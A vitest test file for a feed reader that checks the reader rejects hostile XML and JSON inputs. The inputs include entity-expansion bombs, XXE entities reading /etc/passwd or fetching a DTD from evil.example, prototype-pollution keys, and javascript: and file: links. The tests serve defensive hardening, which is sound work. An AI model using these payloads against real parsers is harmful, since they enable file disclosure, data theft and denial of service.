import { readFileSync } from 'node:fs';
import { describe, expect, test } from 'vitest';
import { feedRecords, importInteractions, parseFeed, readFeed } from '../../src/feeds/index.js';

const rss = (inside: string, before = '') =>
  `<?xml version="1.0"?>${before}<rss version="2.0"><channel><title>T</title>${inside}</channel></rss>`;
const item = (title: string) => `<item><guid>1</guid><title>${title}</title></item>`;
const codes = (input: string | Uint8Array, options = {}) => readFeed(input, options).issues.map(({ code }) => code);
const titleOf = (input: string | Uint8Array) => readFeed(input).items[0]?.title;

// Most inputs take milliseconds here and took minutes in a naive reader: the limit of the runner for a test would end them.

describe('entities', () => {
  const dtd = (declarations: string, reference = '&x;') => rss(item(reference), `<!DOCTYPE rss [${declarations}]>`);

  test.each([
    [
      'nested bomb',
      dtd(
        `<!ENTITY a "aaaaaaaaaa">${'bcdefghij'
          .split('')
          .map((n, i) => `<!ENTITY ${n} "${`&${'abcdefghij'[i]};`.repeat(10)}">`)
          .join('')}`,
        '&j;',
      ),
      '&j;',
    ],
    ['quadratic bomb', dtd(`<!ENTITY x "${'a'.repeat(50_000)}">`, '&x;'.repeat(50_000)), '&x;'.repeat(50_000)],
    ['external entity', dtd('<!ENTITY x SYSTEM "file:///etc/passwd">'), '&x;'],
    ['parameter entity', dtd('<!ENTITY % p SYSTEM "http://evil.example/p.dtd"> %p;'), '&x;'],
    ['lt redefined', dtd('<!ENTITY lt "<script>">', '&lt;'), '<'],
    ['names as expressions', dtd('<!ENTITY a.*b "x"><!ENTITY (a+)+ "y">', '&(a+)+;'), '&(a+)+;'],
    ['5,000 entities', dtd(Array.from({ length: 5000 }, (_, i) => `<!ENTITY e${i} "v">`).join(''), '&e7;'), '&e7;'],
  ])('%s: reported, never expanded, the item stays', (_name, input, title) => {
    const { items, issues } = readFeed(input);
    expect(issues.map(({ code }) => code)).toContain('dtd-forbidden');
    expect(items[0]?.title).toBe(title);
  });

  test('a public DOCTYPE alone is harmless', () => {
    const doctype =
      '<!DOCTYPE rss PUBLIC "-//Netscape Communications//DTD RSS 0.91//EN" "http://my.netscape.com/publish/formats/rss-0.91.dtd">';
    expect(readFeed(rss(item('x'), doctype))).toMatchObject({ items: [{ title: 'x' }], issues: [] });
  });

  test('a million numeric references', () => {
    const { items } = readFeed(rss(item('&#65;'.repeat(1_000_000))), { limits: { record: 1e7, text: 1e7 } });
    expect(items[0]?.title).toHaveLength(1_000_000);
  });

  test.each([
    ['&#x110000;&#xD800;&#0;', '\ufffd\ufffd\ufffd'],
    ['&amp;lt;b&amp;gt;', '&lt;b&gt;'],
    ['AT&T &unknown; &', 'AT&T &unknown; &'],
    ['&#146;&#x80;&eacute;&nbsp;x', '’€é\u00a0x'],
    ['&#x00000000000000000000000000000000041;', '&#x00000000000000000000000000000000041;'],
  ])('%s is read as %s', (written, read) => {
    expect(titleOf(rss(item(written)))).toBe(read.trim());
  });
});

describe('size and depth', () => {
  test.each([5000, 100_000])('elements %i deep are left out, the item stays', (depth) => {
    const input = rss(
      `<item><guid>1</guid><x>${'<a>'.repeat(depth)}${'</a>'.repeat(depth)}</x><title>t</title></item>`,
    );
    const { items, issues } = readFeed(input);
    expect(issues.map(({ code }) => code)).toEqual(['limit-depth']);
    expect(items[0]?.title).toBe('t');
  });

  test('unclosed elements 100,000 deep', () => {
    expect(codes('<rss>'.repeat(100_000))).toContain('malformed-xml');
    expect(codes(rss('<title>'.repeat(100_000)))).toContain('malformed-xml');
  });

  test('50,000 attributes are left out', () => {
    const attributes = Array.from({ length: 50_000 }, (_, i) => `a${i}="v"`).join(' ');
    const { items, issues } = readFeed(rss(`<item ${attributes}><guid>1</guid></item>`));
    expect(issues.map(({ code }) => code)).toEqual(['limit-attributes']);
    expect(items[0]?.id).toBe('1');
  });

  test('200,000 blanks in a tag', () => {
    const input = rss(
      `<item><guid${' '.repeat(200_000)}>7</guid><enclosure url="https://e.example/a"${' '.repeat(200_000)}/></item>`,
    );
    expect(readFeed(input).items[0]).toMatchObject({
      id: '7',
      enclosures: [{ url: 'https://e.example/a' }],
    });
  });

  test('a text of 20 MB is cut, a record beyond the limit is left out', () => {
    const long = `<item><guid>1</guid><description><![CDATA[${'x'.repeat(20_000_000)}]]></description></item>`;
    const { items, issues } = readFeed(rss(long + item('next')));
    expect(issues.map(({ code }) => code)).toEqual(['limit-text', 'limit-record']);
    expect(items.map(({ title }) => title)).toEqual(['next']);
    const cut = readFeed(rss(long), { limits: { record: 3e7 } });
    expect(cut.items[0]?.summary?.length).toBeLessThanOrEqual(4 * 1024 * 1024);
  });

  test('20,000 items are read, the limit cuts them', () => {
    const many = rss(Array.from({ length: 20_000 }, (_, i) => `<item><guid>${i}</guid></item>`).join(''));
    expect(readFeed(many).items).toHaveLength(20_000);
    const few = readFeed(many, { limits: { items: 10 } });
    expect(few.items).toHaveLength(10);
    expect(few.issues.map(({ code }) => code)).toEqual(['limit-items']);
  });

  test('an input beyond the limit is not read', () => {
    expect(readFeed(rss(item('x')), { limits: { bytes: 10 } })).toMatchObject({
      feed: null,
      items: [],
      issues: [{ code: 'limit-bytes' }],
    });
  });
});

describe('names', () => {
  test.each(['__proto__', 'constructor', 'prototype', '__Proto__', 'Constructor'])(
    '%s as element, attribute and prefix',
    (name) => {
      const inputs = [
        rss(`<item><guid>1</guid><${name}>x</${name}></item>`),
        rss(`<item ${name}="x"><guid>1</guid></item>`),
        rss(`<item><guid>1</guid><${name}:a xmlns:${name}="http://e.example/">x</${name}:a></item>`),
      ];
      for (const input of inputs) {
        const { items, issues } = readFeed(input);
        expect(items[0]?.id).toBe('1');
        expect(issues.map(({ code }) => code)).toContain('dangerous-name');
      }
      expect(({} as Record<string, unknown>)['x']).toBeUndefined();
    },
  );

  test('hasOwnProperty and toString are names like others', () => {
    const input = rss(
      '<item hasOwnProperty="x" toString="y"><hasOwnProperty>x</hasOwnProperty><guid>1</guid><valueOf/></item>',
    );
    expect(readFeed(input)).toMatchObject({ items: [{ id: '1' }], issues: [] });
  });

  test('a key __proto__ in JSON reaches no prototype', () => {
    const json =
      '{"event":"message_created","id":1,"message_type":"incoming","content":"x","created_at":1,"__proto__":{"polluted":1}}';
    const { issues, interactions } = importInteractions(json, { channel: { id: 'c', platform: 'chatwoot' } });
    expect(issues.map(({ code }) => code)).toEqual(['dangerous-name']);
    expect(interactions).toHaveLength(1);
    expect(({} as Record<string, unknown>)['polluted']).toBeUndefined();
  });

  test('a tag that two parsers may see differently hides no name', () => {
    const inputs = [
      '<rss><channel><item><guid <__proto__>1</guid></item></channel></rss>',
      '<rss><channet":"https://a.example/2"}l><__proto__>x</__proto__></channel></rss>/a.example/2"}l><x/></channel></rss>',
      `<rss><channel><item ${'a'.repeat(200_000)} b><guid>1</guid></item></channel></rss>`,
      `<posts><row <__proto__ Id="1" constructor="x" Body='"'/></posts>`,
    ];
    for (const input of inputs) expect(Array.isArray(readFeed(input, { salvage: true }).items)).toBe(true);
  });

  test('of a repeated attribute one value stays', () => {
    expect(titleOf(rss('<item><title type="a" type="b">t</title></item>'))).toBe('t');
  });
});

describe('broken markup', () => {
  const two = `${item('one')}<item><guid>2</guid><title>two`;

  test.each([
    ['truncated', `<rss version="2.0"><channel>${two}`],
    ['unclosed quote', `<rss version="2.0"><channel>${item('one')}<item><link href="x`],
    [
      'unclosed CDATA',
      `<rss version="2.0"><channel>${item('one')}<item><title><![CDATA[x</title></item></channel></rss>`,
    ],
    ['unclosed comment', `<rss version="2.0"><channel>${item('one')}<!-- x </channel></rss>`],
  ])('%s: fatal, with a position; complete items are saved where asked for', (_name, input) => {
    const plain = readFeed(input);
    expect(plain).toMatchObject({
      feed: null,
      items: [],
      issues: [{ code: 'malformed-xml', offset: expect.any(Number) }],
    });
    expect(readFeed(input, { salvage: true }).items.map(({ title }) => title)).toEqual(['one']);
  });

  test('a wrong end tag costs no item', () => {
    const { items, issues } = readFeed(rss(`<item><title>a</titel><guid>1</guid></item>${item('b')}`));
    expect(items).toHaveLength(2);
    expect(issues.map(({ code }) => code)).toEqual(['malformed-xml']);
  });

  test('100,000 opening brackets', () => {
    expect(codes('<'.repeat(100_000))).toEqual(['not-a-feed']);
    expect(titleOf(rss(item('<'.repeat(100_000))))).toHaveLength(100_000);
  });

  test('a second root is left out', () => {
    const { items, issues } = readFeed(rss(item('one')) + rss(item('two')));
    expect(items.map(({ title }) => title)).toEqual(['one']);
    expect(issues.map(({ code }) => code)).toEqual(['malformed-xml']);
  });

  test('what looks like markup in a section is text', () => {
    const input = rss(
      '<item><title>a<!-- </title></item> -->b</title><description><![CDATA[</item>]]]]><![CDATA[>x]]></description><guid>1</guid></item>',
    );
    expect(readFeed(input)).toMatchObject({ items: [{ title: 'ab', summary: '</item>]]>x', id: '1' }], issues: [] });
  });

  test('inline markup keeps the order of its text', () => {
    const input = rss('<item><title>A <b>B</b> C</title><description>D <i>E</i> F &amp; G</description></item>');
    expect(readFeed(input).items[0]).toMatchObject({ title: 'A B C', summary: 'D E F & G' });
  });

  test('control characters vanish', () => {
    expect(titleOf(rss(item('a\u0000b\u0007c')))).toBe('abc');
  });
});

describe('not a feed', () => {
  test.each([
    ['', 'empty-input'],
    [' \n\t ', 'empty-input'],
    ['\ufeff', 'empty-input'],
    ['<!doctype html><html><body>Service unavailable</body></html>', 'not-a-feed'],
    ['{"items":[]}', 'not-a-feed'],
    ['hello', 'not-a-feed'],
    ['<svg xmlns="http://www.w3.org/2000/svg"/>', 'not-a-feed'],
  ])('%j is %s', (input, code) => {
    expect(readFeed(input)).toMatchObject({ feed: null, items: [], issues: [{ code }] });
  });

  test('random bytes', () => {
    let state = 1;
    const bytes = Uint8Array.from({ length: 100_000 }, () => {
      state = (Math.imul(state, 1664525) + 1013904223) >>> 0;
      return state >>> 24;
    });
    expect(codes(bytes).length).toBeGreaterThan(0);
  });

  test('blanks and a BOM before the root are harmless', () => {
    expect(titleOf(`\ufeff \n${rss(item('x'))}`)).toBe('x');
  });
});

describe('encodings', () => {
  const utf16 = (text: string, isLittle: boolean) =>
    Uint8Array.from(
      [...text].flatMap((c) => {
        const unit = c.charCodeAt(0);
        return isLittle ? [unit & 255, unit >> 8] : [unit >> 8, unit & 255];
      }),
    );
  const latin = (text: string) => Uint8Array.from(text, (c) => c.charCodeAt(0));
  const declared = (label: string) =>
    `<?xml version="1.0" encoding="${label}"?><rss><channel><item><title>Grüße</title></item></channel></rss>`;

  test.each([
    ['UTF-16 little endian with BOM', utf16(`\ufeff${declared('utf-16')}`, true)],
    ['UTF-16 big endian with BOM', utf16(`\ufeff${declared('utf-16')}`, false)],
    ['UTF-16 without BOM', utf16(declared('utf-16'), true)],
    ['ISO-8859-1', latin(declared('ISO-8859-1'))],
    ['windows-1252', latin(declared('windows-1252'))],
    ['UTF-16 declared on single bytes', new TextEncoder().encode(declared('utf-16'))],
    ['UTF-8 with BOM', new TextEncoder().encode(`\ufeff${declared('utf-8')}`)],
  ])('%s', (_name, bytes) => {
    expect(readFeed(bytes)).toMatchObject({ items: [{ title: 'Grüße' }], issues: [{ code: 'item-without-id' }] });
  });

  test('an unknown encoding is read as UTF-8 and reported', () => {
    expect(codes(new TextEncoder().encode(declared('klingon-8')))).toEqual(['unknown-encoding', 'item-without-id']);
  });
});

describe('links and dates', () => {
  test.each([
    'javascript:alert(1)',
    'JavaScript:alert(1)',
    'java\nscript:alert(1)',
    'data:text/html,x',
    'vbscript:x',
    'file:///etc/passwd',
  ])('%j is dropped', (link) => {
    const { items, issues } = readFeed(rss(`<item><guid isPermaLink="false">1</guid><link>${link}</link></item>`));
    expect(items[0]?.link).toBeUndefined();
    expect(issues.map(({ code }) => code)).toEqual(['link-dropped']);
  });

  test.each([
    'yesterday',
    'Tue, 31 Feb 2026 10:00:00 GMT',
    'Mon, 02 Mar 2026 10:00:00',
    '2026-03-02T25:00:00Z',
    '0000-00-00 00:00:00',
    '9'.repeat(500),
  ])('%s is no date', (date) => {
    const { items, issues } = readFeed(rss(`<item><guid>1</guid><pubDate>${date}</pubDate></item>`));
    expect(items[0]).toMatchObject({ publishedRaw: date });
    expect(items[0]?.published).toBeUndefined();
    expect(issues.map(({ code }) => code)).toEqual(['date-invalid']);
  });
});

describe('streams', () => {
  const gather = async (chunks: Iterable<string | Uint8Array>, options = {}) => {
    const ids: (string | undefined)[] = [];
    const issues: string[] = [];
    for await (const record of feedRecords(chunks, options)) {
      if ('item' in record) ids.push(record.item.id);
      else issues.push(record.issue.code);
    }
    return { ids, issues };
  };

  test('a chunk may be cut anywhere', async () => {
    const bytes = new TextEncoder().encode(
      rss(`${item('ä<![CDATA[</item>]]>')}<item><guid>2</guid><!-- <item> --></item>`),
    );
    for (const size of [1, 2, 3, 7, 64]) {
      const chunks = Array.from({ length: Math.ceil(bytes.length / size) }, (_, i) =>
        bytes.subarray(i * size, (i + 1) * size),
      );
      expect(await gather(chunks)).toEqual({ ids: ['1', '2'], issues: [] });
    }
  });

  test('`>` and `/>` may stand in the values of a row', async () => {
    expect(await gather([`<posts><row Id="1" Body="a /> b > c" /><row Id='2' Body='"/>'/></posts>`])).toEqual({
      ids: ['1', '2'],
      issues: [],
    });
  });

  test('a record beyond the limit is skipped', async () => {
    const long = `<item><guid>long</guid><description>${'x'.repeat(50_000)}</description></item>`;
    const found = await gather([rss(item('a') + long + item('b'))], { limits: { record: 10_000 } });
    expect(found).toEqual({ ids: ['1', '1'], issues: ['limit-record'] });
  });

  test.each([
    ['', ['empty-input']],
    ['{}', ['not-a-feed']],
    ['<html><body/></html>', ['not-a-feed']],
    [`<rss><channel>${item('a')}<item>`, ['malformed-xml']],
  ])('%j', async (input, issues) => {
    expect((await gather([input])).issues).toEqual(issues);
  });
});

test('a caller who errs is told by an error with a code', () => {
  const channel = { id: 'c', platform: 'rss' };
  const wrong: [() => unknown, string][] = [
    [() => readFeed(7 as never), 'input-invalid'],
    [() => readFeed('', { salvag: true } as never), 'option-unknown'],
    [() => readFeed('', { limits: { depth: 0 } }), 'option-invalid'],
    [() => readFeed('', { limits: { dept: 1 } as never }), 'option-unknown'],
    [() => parseFeed('', {} as never), 'channel-invalid'],
    [() => parseFeed('', { channel: { id: '', platform: 'x' } }), 'channel-invalid'],
    [() => parseFeed('', { channel, keepPersonal: ['phone' as never] }), 'option-invalid'],
    [() => parseFeed('', { channel, fetchedAt: 'yesterday' }), 'option-invalid'],
    [() => feedRecords([], { limits: { depth: -1 } }), 'option-invalid'],
    [() => importInteractions(null as never, { channel }), 'input-invalid'],
  ];
  for (const [call, code] of wrong) expect(call).toThrow(expect.objectContaining({ code }));
});

test('the installed fast-xml-parser has no known advisory', () => {
  const read = (path: string) =>
    JSON.parse(readFileSync(new URL(path, import.meta.url), 'utf8')) as Record<string, unknown>;
  const [major = 0, minor = 0, patch = 0] = String(read('../../node_modules/fast-xml-parser/package.json')['version'])
    .split('.')
    .map(Number);
  expect(major).toBe(5);
  expect(minor * 1000 + patch).toBeGreaterThanOrEqual(12_001);
  expect((read('../../package.json')['dependencies'] as Record<string, string>)['fast-xml-parser']).toMatch(
    /^\^5\.(1[2-9]|[2-9]\d)/,
  );
});
